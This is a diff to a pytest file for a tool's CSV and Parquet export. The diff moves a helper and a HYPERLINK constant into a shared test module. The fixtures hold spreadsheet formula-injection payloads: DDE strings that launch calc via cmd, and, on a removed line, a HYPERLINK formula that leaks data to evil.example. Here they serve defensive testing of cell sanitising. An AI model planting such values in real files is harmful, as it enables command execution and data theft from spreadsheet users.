@@ -12,10 +12,10 @@ import pytest
 
 from core.csv_out import FORMULA_START, copy_csv, copy_parquet, safe_cell, write_text
 from tests.pdf_helpers import cli
+from tests.test_export_safety import HYPERLINK, _is_number
 
 MONTH = "2026-10"
 DDE = "+cmd|' /C calc'!A0"
-HYPERLINK = '=HYPERLINK("http://evil.example/?leak","click")'
 SUM = "@SUM(1+1)*cmd"
 MINUS = "-2+3+cmd|' /C calc'!A0"
 
@@ -40,14 +40,6 @@ def exported(tmp_path_factory) -> dict[str, Path]:
     cli("export", "jobs", *common, "--out", str(root / "jobs"))
     return {"allocation": root / "exports" / f"allocation-{MONTH}.csv", "jobs": root / "jobs.csv",
             "allocation_pq": root / "exports" / f"allocation-{MONTH}.parquet", "jobs_pq": root / "jobs.parquet"}
-
-
-def _is_number(s: str) -> bool:
-    try:
-        float(s)
-        return True
-    except ValueError:
-        return False
 
 
 @pytest.mark.parametrize("name", ["allocation", "jobs"])
